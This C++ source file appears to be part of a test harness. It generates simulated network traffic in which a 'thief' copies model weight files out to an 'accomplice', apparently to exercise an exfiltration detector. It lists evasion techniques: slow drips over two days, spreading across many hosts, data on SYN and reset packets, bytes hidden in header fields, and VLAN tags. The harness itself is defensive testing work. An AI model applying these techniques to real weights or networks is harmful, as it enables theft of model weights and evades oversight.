// Over TCP: copies in every format, through every door, in replies, slowly, from many hosts, and without what TCP asks.
#include "tools/thief/ways.hpp"

#include <fmt/format.h>
#include <algorithm>
#include <optional>

namespace weir::thief {

namespace {

using namespace flag;

// One connection, seen from the holder.
class Connection {
 public:
  Connection(const Path& path, const Door& door, u16 own, std::vector<u16> tags = {})
      : path_(path),
        dials_(door.holder_dials),
        own_(dials_ ? own : door.port),
        other_(dials_ ? door.port : own),
        tags_(std::move(tags)) {}

  // The handshake, whoever begins; also with a SYN proxy between.
  void open(Script& script) {
    if (dials_) script.out(from_holder(syn, {}, 1000, 0));
    else script.in(to_holder(syn, 5000, 0));
    if (const auto first = proxy_sequence(script.answer())) {
      (dials_ ? from_accomplice_ : to_accomplice_) = *first + 1;
      dial_on(script);
    }
    if (dials_) script.in(to_holder(syn | ack, 5000, 1001));
    else script.out(from_holder(syn | ack, {}, 1000, 5001));
    dial_on(script);
    script.in(to_holder(ack, 5001, to_accomplice_));  // the accomplice's window is a gigabyte
  }
  void say(Script& script, View weights, u8 flags = ack) {
    script.out(from_holder(flags, weights, next_, from_accomplice_), static_cast<u32>(weights.size()));
    next_ += static_cast<u32>(weights.size());
    script.in(to_holder(ack, 5001, to_accomplice_ + (next_ - 1001)));  // as a reader may want it
  }
  bool is_full() const { return next_ > 500'000'000; }
  Bytes from_holder(u8 flags, View payload, u32 sequence, u32 acknowledged) const {
    return frame(path_, {own_, other_, sequence, acknowledged, flags}, payload);
  }
  Bytes to_holder(u8 flags, u32 sequence, u32 acknowledged) const {
    return frame(path_.back(), {other_, own_, sequence, acknowledged, flags}, {});
  }

 private:
  Bytes frame(const Path& path, const TcpHead& head, View payload) const {
    return tagged(path, tags_, ether_type(path), ip(path, 6, tcp(path, head, payload)));
  }

  // Of whoever dialled: what he has heard of the other.
  void dial_on(Script& script) const {
    if (dials_) script.out(from_holder(ack, {}, 1001, from_accomplice_));
    else script.in(to_holder(ack, 5001, to_accomplice_));
  }
  // The first number of the SYN-ACK that a proxy sent in the other's place.
  std::optional<u32> proxy_sequence(const Bytes& answer) const {
    const std::size_t at = 14 + 4 * tags_.size() + (path_.is_ipv6 ? 40 : 20);
    if (answer.size() < at + 20 || answer[at + 13] != (syn | ack)) return std::nullopt;
    return load_be32(&answer[at + 4]);
  }

  Path path_;
  bool dials_;
  u16 own_, other_;
  std::vector<u16> tags_;
  u32 next_ = 1001;
  // What the holder has to acknowledge, and what the accomplice: a proxy's numbers are not the other end's.
  u32 from_accomplice_ = 5001, to_accomplice_ = 1001;
};

// As much as the script wants, in as many connections as that takes.
void copy(const Path& path, const Door& door, const Bytes& file, Script& script, std::vector<u16> tags = {}) {
  for (u16 own = 33000; script.wants_more(); ++own) {
    Connection connection(path, door, own, tags);
    connection.open(script);
    while (script.wants_more() && !connection.is_full()) connection.say(script, script.piece(file, piece_bytes));
  }
}

Door first_door(const Scene& scene) {
  for (const Door& door : scene.doors)
    if (door.protocol == 6) return door;
  return {6, 443, true};  // none is open: the thief tries what most let through
}

Path path_of(const Scene& scene) { return {scene.holder, scene.accomplice}; }

Way copy_way(const std::string& name, Format format, const Door& door) {
  return {name, false, 3600,
          [=](const Scene& scene, Script& script) { copy(path_of(scene), door, tensor_file(format), script); }};
}

void drip(const Scene& scene, Script& script) {
  Connection connection(path_of(scene), first_door(scene), 34000);
  const Bytes& file = tensor_file(Format::bf16);
  connection.open(script);
  for (int turn = 0; turn < 48 * 6 && script.wants_more(); ++turn) {
    script.wait(600 * tick_second);
    for (int i = 0; i < 8 && script.wants_more(); ++i) connection.say(script, script.piece(file, small_piece_bytes));
  }
}

void many_hosts(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  std::vector<Connection> connections;
  for (const u32 address : scene.other_holders) {
    Path path = path_of(scene);
    path.from.ipv4 = address;
    connections.emplace_back(path, first_door(scene), static_cast<u16>(35000 + connections.size()));
    connections.back().open(script);
  }
  while (script.wants_more() && !connections.empty())
    for (Connection& connection : connections)
      if (script.wants_more()) connection.say(script, script.piece(file, piece_bytes));
}

// Through every door that is open, by turns.
void everything(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  const Path path = path_of(scene);
  std::vector<Connection> connections;
  for (const Door& door : scene.doors) {
    if (door.protocol == 6)
      connections.emplace_back(path, door, static_cast<u16>(37000 + connections.size())).open(script);
    else if (!door.holder_dials) script.in(first_packet(scene, door));
  }
  while (script.wants_more() && !scene.doors.empty()) {
    for (Connection& connection : connections)
      if (script.wants_more()) connection.say(script, script.piece(file, piece_bytes));
    for (const Door& door : scene.doors) {
      if (door.protocol == 6 || !script.wants_more()) continue;
      const View weights = script.piece(file, piece_bytes);
      const u16 own = static_cast<u16>(20000 + door.port % 10000);
      const u16 source = door.holder_dials ? own : door.port, target = door.holder_dials ? door.port : own;
      script.out(framed(path, ip(path, 17, udp(path, source, target, weights))), static_cast<u32>(weights.size()));
    }
  }
}

// Segments of a connection that never was.
void without_handshake(const Scene& scene, Script& script, u8 flags, u32 acknowledged) {
  const Bytes& file = tensor_file(Format::bf16);
  const Door door = first_door(scene);
  const Path path = path_of(scene);
  u16 own = 36000;
  u32 sequence = 1;
  while (script.wants_more()) {
    const View weights = script.piece(file, small_piece_bytes);
    const u16 source = door.holder_dials ? own : door.port, target = door.holder_dials ? door.port : own;
    script.out(framed(path, ip(path, 6, tcp(path, {source, target, sequence, acknowledged, flags}, weights))),
               static_cast<u32>(weights.size()));
    if ((flags & syn) != 0) ++own;
    else sequence += static_cast<u32>(weights.size());
  }
}

// Eight bytes in a connection's first sequence number and IP id, a connection each; to a port that may be closed.
void in_header_fields(const Scene& scene, Script& script) {
  const Bytes& file = tensor_file(Format::bf16);
  const Door door = first_door(scene);
  const Path path = path_of(scene);
  for (u32 i = 0; i < 20'000 && script.wants_more(); ++i) {
    const View weights = script.piece(file, 6);
    if (weights.size() < 6) continue;
    const TcpHead head{static_cast<u16>(20'000 + i), door.port, load_be32(weights.data()), 0, syn};
    script.out(framed(path, ip(path, 6, tcp(path, head, {}), 0x4000, load_be16(weights.data() + 4))), 6);
    script.wait(tick_second / 10);
  }
}

}  // namespace

std::vector<Way> stream_ways(const Scene& scene) {
  std::vector<Way> made;
  const Door door = first_door(scene);
  const auto where = [](const Door& to) {
    return fmt::format("tcp/{}{}", to.port, to.holder_dials ? "" : ", in replies");
  };
  for (const Format format : formats)
    made.push_back(copy_way(fmt::format("{} over {}", name_of(format), where(door)), format, door));
  for (const Door& other : scene.doors)
    if (other.protocol == 6 && (other.port != door.port || other.holder_dials != door.holder_dials))
      made.push_back(copy_way("bf16 over " + where(other), Format::bf16, other));
  const Door turned{6, door.port, !door.holder_dials};
  if (std::ranges::none_of(scene.doors, [&](const Door& one) {
        return one.protocol == 6 && one.port == turned.port && one.holder_dials == turned.holder_dials;
      }))
    made.push_back(copy_way("bf16 over " + where(turned), Format::bf16, turned));
  if (!scene.doors.empty()) made.push_back({"every open door at once", false, 3600, everything});
  made.push_back({"slow drip for two days", false, 48 * 3600 + 60, drip});
  made.push_back({"many hosts at once", false, 3600, many_hosts});
  made.push_back({"segments without a handshake", false, 3600,
                  [](const Scene& at, Script& script) { without_handshake(at, script, ack | push, 77); }});
  made.push_back(
      {"data on SYNs", false, 3600, [](const Scene& at, Script& script) { without_handshake(at, script, syn, 0); }});
  made.push_back({"data on resets", false, 3600,
                  [](const Scene& at, Script& script) { without_handshake(at, script, reset | ack, 77); }});
  made.push_back({"header fields of SYNs", false, 3600, in_header_fields});
  if (scene.has_ipv6)
    made.push_back({"bf16 over " + where(door) + ", IPv6", false, 3600, [](const Scene& at, Script& script) {
                      copy({at.holder, at.accomplice, true}, first_door(at), tensor_file(Format::bf16), script);
                    }});
  for (const std::vector<u16>& tags : {std::vector<u16>{100}, std::vector<u16>{100, 200}})
    made.push_back({tags.size() == 1 ? "behind a VLAN tag" : "behind two VLAN tags", false, 3600,
                    [tags](const Scene& at, Script& script) {
                      copy(path_of(at), first_door(at), tensor_file(Format::bf16), script, tags);
                    }});
  return made;
}

}  // namespace weir::thief
